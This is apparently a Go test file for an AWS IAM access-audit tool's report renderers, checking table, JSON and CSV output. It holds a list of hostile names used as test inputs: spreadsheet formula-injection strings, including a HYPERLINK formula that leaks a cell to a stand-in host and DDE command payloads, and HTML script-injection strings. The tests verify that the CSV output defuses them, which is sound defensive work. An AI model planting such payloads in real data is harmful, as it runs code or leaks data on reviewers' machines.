package render

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"io"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/gatehouse-dev/gatehouse/internal/audit"
)

const (
	ssoPath  = "role/aws-reserved/sso.amazonaws.com/"
	prodID   = "111111111111"
	stageID  = "222222222222"
	toolsID  = "333333333333"
	outsider = "999999999999"
)

func roleARN(account, name string) string { return "arn:aws:iam::" + account + ":" + name }

// auditFixture is a small report with every kind of row: a person through
// a group and directly, a chain across accounts, conditional and unmanaged
// access, an IAM user, a workload role, an outside account, and findings of
// every severity.
func auditFixture() *audit.Report {
	ssoReadOnly := roleARN(prodID, ssoPath+"AWSReservedSSO_ReadOnly_0123abcd")
	ssoAdmin := roleARN(stageID, ssoPath+"AWSReservedSSO_Admin_*")
	engineer := roleARN(prodID, "role/EngineerAccess")
	memberAlice := audit.Step{Kind: audit.StepMemberOf, From: "alice", To: "Engineers", Managed: true}
	assignEng := audit.Step{Kind: audit.StepAssignment, From: "Engineers", To: ssoReadOnly, PermissionSet: "ReadOnly", Managed: true}
	toEngineer := audit.Step{Kind: audit.StepAssumeRole, From: ssoReadOnly, To: engineer, Managed: true}
	return &audit.Report{
		Version: audit.FormatVersion,
		Source:  "live",
		Access: []audit.Access{
			{
				Principal: audit.Principal{Type: audit.PrincipalAccount, Name: "partner", ID: outsider},
				Account:   prodID, RoleARN: roleARN(prodID, "role/Auditor"), Decision: audit.Conditional,
				Conditions: []string{"sts:ExternalId"}, AccountName: "prod",
				Path: []audit.Step{{Kind: audit.StepAssumeRole, From: "arn:aws:iam::" + outsider + ":root", To: roleARN(prodID, "role/Auditor"), Conditions: []string{"sts:ExternalId"}}},
			},
			{
				Principal: audit.Principal{Type: audit.PrincipalIAMRole, Name: "github-actions", ID: roleARN(toolsID, "role/github-actions")},
				Account:   stageID, RoleARN: roleARN(stageID, "role/Deployer"), Decision: audit.Allowed, Conditions: []string{},
				Chained: true, Managed: true, AccountName: "staging",
				Path: []audit.Step{{Kind: audit.StepAssumeRole, From: roleARN(toolsID, "role/github-actions"), To: roleARN(stageID, "role/Deployer"), Managed: true}},
			},
			{
				Principal: audit.Principal{Type: audit.PrincipalIAMUser, Name: "deploy-bot", ID: roleARN(toolsID, "user/ci/deploy-bot")},
				Account:   prodID, RoleARN: roleARN(prodID, "role/Deployer"), Decision: audit.Conditional,
				Conditions: []string{"aws:MultiFactorAuthPresent"}, AccountName: "prod",
				Path: []audit.Step{{Kind: audit.StepAssumeRole, From: roleARN(toolsID, "user/ci/deploy-bot"), To: roleARN(prodID, "role/Deployer"), Conditions: []string{"aws:MultiFactorAuthPresent"}}},
			},
			{
				Principal: audit.Principal{Type: audit.PrincipalUser, Name: "alice", ID: "u-alice"},
				Account:   prodID, RoleARN: ssoReadOnly, Decision: audit.Allowed, Conditions: []string{}, Managed: true, AccountName: "prod",
				Path: []audit.Step{memberAlice, assignEng},
			},
			{
				Principal: audit.Principal{Type: audit.PrincipalUser, Name: "alice", ID: "u-alice"},
				Account:   prodID, RoleARN: engineer, Decision: audit.Allowed, Conditions: []string{}, Chained: true, Managed: true, AccountName: "prod",
				Path: []audit.Step{memberAlice, assignEng, toEngineer},
			},
			{
				Principal: audit.Principal{Type: audit.PrincipalUser, Name: "alice", ID: "u-alice"},
				Account:   toolsID, RoleARN: roleARN(toolsID, "role/ToolsReader"), Decision: audit.Conditional,
				Conditions: []string{"aws:SourceIp"}, Chained: true, Managed: true, AccountName: "tools",
				Path: []audit.Step{memberAlice, assignEng, toEngineer,
					{Kind: audit.StepAssumeRole, From: engineer, To: roleARN(toolsID, "role/ToolsReader"), Conditions: []string{"aws:SourceIp"}, Managed: true}},
			},
			{
				Principal: audit.Principal{Type: audit.PrincipalUser, Name: "bob", ID: "u-bob"},
				Account:   stageID, RoleARN: ssoAdmin, Decision: audit.Allowed, Conditions: []string{}, AccountName: "staging",
				Path: []audit.Step{{Kind: audit.StepAssignment, From: "bob", To: ssoAdmin, PermissionSet: "Admin"}},
			},
		},
		Findings: []audit.Finding{
			{Rule: "TRUST-ANY-PRINCIPAL", Severity: audit.Critical, Account: stageID, Resource: roleARN(stageID, "role/Open"), Statement: 0, Sid: "OpenToAll",
				Message: `the trust policy lets any AWS principal ("*") assume role Open`, Fix: "name the accounts or roles that need the role in Principal"},
			{Rule: "UNMANAGED-ASSIGNMENT", Severity: audit.High, Account: stageID, Resource: "arn:aws:sso:::permissionSet/ssoins-1/ps-admin", Statement: -1,
				Message: "user bob has permission set Admin in account staging (222222222222), which the model does not own: access granted by hand, outside the model",
				Fix:     "declare the permission set and the assignment in the model if the access is wanted, or remove the assignment"},
			{Rule: "UNMANAGED-TRUST", Severity: audit.High, Account: prodID, Resource: roleARN(prodID, "role/Auditor"), Statement: -1,
				Message: "role Auditor, which the model does not define, trusts 999999999999: access that exists outside the model",
				Fix:     "declare the role in the model, or delete it if nobody needs it"},
			{Rule: "TRUST-NO-MFA", Severity: audit.Medium, Account: prodID, Resource: roleARN(prodID, "role/Deployer"), Statement: 1,
				Message: "IAM users can assume role Deployer with long-term keys alone", Fix: "require aws:MultiFactorAuthPresent, or use Identity Center"},
			{Rule: "SESSION-CHAINED", Severity: audit.Low, Account: prodID, Resource: engineer, Statement: -1,
				Message: "people reach role EngineerAccess by role chaining: sessions last at most one hour", Fix: "assign a permission set in the account instead"},
			{Rule: "OUTSIDE-ACCOUNT", Severity: audit.Info, Account: outsider, Resource: outsider, Statement: -1,
				Message: "account 999999999999 is trusted but not read by the audit", Fix: "add it to the model's external accounts if it is known"},
		},
		Accounts: map[string]audit.AccountInfo{
			prodID:   {Name: "prod", Kind: "member"},
			stageID:  {Name: "staging", Kind: "member"},
			toolsID:  {Name: "tools", Kind: "member"},
			outsider: {Kind: "outside"},
		},
		Summary: audit.Summary{People: 2, Principals: 5, Accounts: 4, Rows: 7, Conditional: 3, Unmanaged: 3,
			Findings: map[string]int{audit.Critical: 1, audit.High: 2, audit.Medium: 1, audit.Low: 1, audit.Info: 1}},
	}
}

// emptyAuditReport is what an audit of nothing returns.
func emptyAuditReport() *audit.Report {
	return &audit.Report{Version: audit.FormatVersion, Source: "model", Access: []audit.Access{}, Findings: []audit.Finding{},
		Summary: audit.Summary{Findings: map[string]int{}}}
}

// hostileNames are names an attacker who can create an IAM user, a role or
// an account could pick, to run code in a reviewer's spreadsheet or page.
var hostileNames = []string{
	`=HYPERLINK("http://x.example/?leak="&A1,"click")`,
	"+cmd|' /C calc'!A0",
	"-2+3",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	"\t=1+1",
	"\r=1+1",
	`</script><script>document.title="pwned"</script>`,
	`<img src=x onerror="document.title='pwned'">`,
	"a,b \"quoted\"\nnew line",
}

// hostileAuditReport is the fixture with an IAM user and an account of
// every hostile name reaching prod.
func hostileAuditReport() *audit.Report {
	r := auditFixture()
	for i, name := range hostileNames {
		user := roleARN(toolsID, "user/"+name)
		role := roleARN(prodID, "role/Deployer")
		r.Access = append(r.Access, audit.Access{
			Principal: audit.Principal{Type: audit.PrincipalIAMUser, Name: name, ID: user},
			Account:   prodID, RoleARN: role, Decision: audit.Allowed, Conditions: []string{}, AccountName: "prod",
			Path: []audit.Step{{Kind: audit.StepAssumeRole, From: user, To: role}},
		})
		acct := "90000000000" + string(rune('0'+i))
		r.Accounts[acct] = audit.AccountInfo{Name: name, Kind: "member"}
		r.Access = append(r.Access, audit.Access{
			Principal: audit.Principal{Type: audit.PrincipalUser, Name: "alice", ID: "u-alice"},
			Account:   acct, RoleARN: roleARN(acct, "role/"+name), Decision: audit.Allowed, Conditions: []string{}, AccountName: name,
			Path: []audit.Step{{Kind: audit.StepAssignment, From: "alice", To: roleARN(acct, "role/"+name), PermissionSet: name}},
		})
	}
	r.Findings = append(r.Findings, audit.Finding{Rule: hostileNames[6], Severity: audit.High, Account: prodID, Resource: hostileNames[7], Statement: -1,
		Message: hostileNames[0], Fix: hostileNames[6]})
	n := len(hostileNames)
	r.Summary.Rows, r.Summary.Principals, r.Summary.Accounts = len(r.Access), r.Summary.Principals+n, r.Summary.Accounts+n
	r.Summary.Unmanaged += 2 * n
	r.Summary.Findings[audit.High]++
	return r
}

func TestAuditGolden(t *testing.T) {
	t.Parallel()
	table := func(o AuditTableOptions) func(io.Writer, *audit.Report) error {
		return func(w io.Writer, r *audit.Report) error { return AuditTable(w, r, o) }
	}
	for _, tc := range []struct {
		name   string
		render func(io.Writer, *audit.Report) error
		in     *audit.Report
	}{
		{"audit.table.golden", table(AuditTableOptions{}), auditFixture()},
		{"audit-color.table.golden", table(AuditTableOptions{Color: true}), auditFixture()},
		{"audit-empty.table.golden", table(AuditTableOptions{}), emptyAuditReport()},
		{"audit.json.golden", AuditJSON, auditFixture()},
		{"audit-empty.json.golden", AuditJSON, emptyAuditReport()},
		{"audit.csv.golden", AuditCSV, auditFixture()},
		{"audit-hostile.csv.golden", AuditCSV, hostileAuditReport()},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			var buf bytes.Buffer
			if err := tc.render(&buf, tc.in); err != nil {
				t.Fatal(err)
			}
			golden(t, tc.name, buf.Bytes())
		})
	}
}

// The JSON output is the Report type's encoding: it decodes back to the
// same report, and every key of report.go is there.
func TestAuditJSONRoundTrip(t *testing.T) {
	t.Parallel()
	for _, r := range []*audit.Report{auditFixture(), emptyAuditReport(), hostileAuditReport()} {
		var buf bytes.Buffer
		if err := AuditJSON(&buf, r); err != nil {
			t.Fatal(err)
		}
		var back audit.Report
		if err := json.Unmarshal(buf.Bytes(), &back); err != nil {
			t.Fatalf("the JSON output does not decode as a report: %v", err)
		}
		if diff := cmp.Diff(r, &back); diff != "" {
			t.Errorf("JSON round trip mismatch (-want +got):\n%s", diff)
		}
		if !bytes.HasSuffix(buf.Bytes(), []byte("}\n")) {
			t.Errorf("the JSON output does not end with a newline")
		}
	}
}

// A report built without empty lists still writes [] and {}, never null:
// scripts iterate over access and findings without a check.
func TestAuditJSONNoNull(t *testing.T) {
	t.Parallel()
	r := &audit.Report{Version: 1, Source: "live", Access: []audit.Access{{Principal: audit.Principal{Type: "user", Name: "a", ID: "a"}, Account: prodID, RoleARN: "r", Decision: audit.Allowed}}}
	var buf bytes.Buffer
	if err := AuditJSON(&buf, r); err != nil {
		t.Fatal(err)
	}
	if strings.Contains(buf.String(), "null") {
		t.Errorf("output has null:\n%s", buf.String())
	}
	if r.Access[0].Conditions != nil || r.Findings != nil {
		t.Errorf("AuditJSON changed its input")
	}
}

func TestAuditCSV(t *testing.T) {
	t.Parallel()
	var buf bytes.Buffer
	if err := AuditCSV(&buf, hostileAuditReport()); err != nil {
		t.Fatal(err)
	}
	data, ok := bytes.CutPrefix(buf.Bytes(), []byte("\xef\xbb\xbf"))
	if !ok {
		t.Fatal("the CSV does not start with a UTF-8 byte order mark")
	}
	header, _, _ := bytes.Cut(data, []byte("\r\n"))
	if want := "principal_type,principal,account,account_name,role_arn,decision,conditions,chained,managed,path,review_decision,reviewer,review_comment"; string(header) != want {
		t.Errorf("header = %q, want %q", header, want)
	}
	if lf, crlf := bytes.Count(data, []byte("\n")), bytes.Count(data, []byte("\r\n")); lf != crlf {
		t.Errorf("%d line feeds, %d of them after a carriage return: want CRLF line ends only (RFC 4180)", lf, crlf)
	}
	recs, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
	if err != nil {
		t.Fatalf("the CSV does not parse: %v", err)
	}
	r := hostileAuditReport()
	if len(recs) != len(r.Access)+1 {
		t.Fatalf("%d records, want a header and %d rows", len(recs), len(r.Access))
	}
	for i, rec := range recs {
		if len(rec) != 13 {
			t.Fatalf("record %d has %d fields, want 13: %q", i, len(rec), rec)
		}
		for j, f := range rec {
			if f != "" && strings.ContainsRune("=+-@\t\r", rune(f[0])) {
				t.Errorf("record %d field %s starts with %q: a spreadsheet would run it as a formula: %q", i, recs[0][j], f[0], f)
			}
		}
		if i > 0 && (rec[10] != "" || rec[11] != "" || rec[12] != "") {
			t.Errorf("record %d: review columns are not empty: %q", i, rec[10:])
		}
	}
	// The names are kept, behind the apostrophe (a lone carriage return
	// is dropped: encoding/csv writes line breaks as CRLF).
	var principals, accountNames []string
	for _, rec := range recs[1:] {
		principals = append(principals, rec[1])
		accountNames = append(accountNames, rec[3])
	}
	for _, name := range hostileNames {
		want := strings.ReplaceAll(defuseFormula(name), "\r", "")
		if !contains(accountNames, want) {
			t.Errorf("no account_name %q in %q", want, accountNames)
		}
		want = strings.ReplaceAll(defuseFormula(name+" ("+roleARN(toolsID, "user/"+name)+")"), "\r", "")
		if !contains(principals, want) {
			t.Errorf("no principal %q in %q", want, principals)
		}
	}
}

func contains(list []string, s string) bool {
	for _, x := range list {
		if x == s {
			return true
		}
	}
	return false
}

func TestDefuseFormula(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		"=1+1": "'=1+1", "+1": "'+1", "-1": "'-1", "@A1": "'@A1", "\t=1": "'\t=1", "\r=1": "'\r=1",
		"alice": "alice", "": "", "a=1": "a=1", "'=1": "'=1", "arn:aws:iam::1:role/x": "arn:aws:iam::1:role/x",
	} {
		if got := defuseFormula(in); got != want {
			t.Errorf("defuseFormula(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestAuditPathText(t *testing.T) {
	t.Parallel()
	r := auditFixture()
	n := newAuditNames(r)
	want := []string{
		"partner > Auditor@prod",
		"github-actions > Deployer@staging",
		"deploy-bot > Deployer@prod",
		"alice > Engineers > ReadOnly@prod",
		"alice > Engineers > ReadOnly@prod > EngineerAccess",
		"alice > Engineers > ReadOnly@prod > EngineerAccess > ToolsReader@tools",
		"bob > Admin@staging",
	}
	var got []string
	for _, a := range r.Access {
		got = append(got, n.path(a.Principal, a.Path))
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("path text mismatch (-want +got):\n%s", diff)
	}
}

func TestSplitARN(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		in, account, name string
		ok                bool
	}{
		{"arn:aws:iam::111111111111:role/a/b/Name", "111111111111", "Name", true},
		{"arn:aws:iam::111111111111:role/aws-reserved/sso.amazonaws.com/AWSReservedSSO_X_*", "111111111111", "AWSReservedSSO_X_*", true},
		{"arn:aws:iam::111111111111:root", "111111111111", "root", true},
		{"arn:aws:sts::111111111111:assumed-role/R/alice", "111111111111", "R/alice", true},
		{"arn:aws:sso:::permissionSet/ssoins-1/ps-1", "", "", false},
		{"Engineers", "", "", false},
	} {
		account, name, ok := splitARN(tc.in)
		if account != tc.account || name != tc.name || ok != tc.ok {
			t.Errorf("splitARN(%q) = %q, %q, %v; want %q, %q, %v", tc.in, account, name, ok, tc.account, tc.name, tc.ok)
		}
	}
}
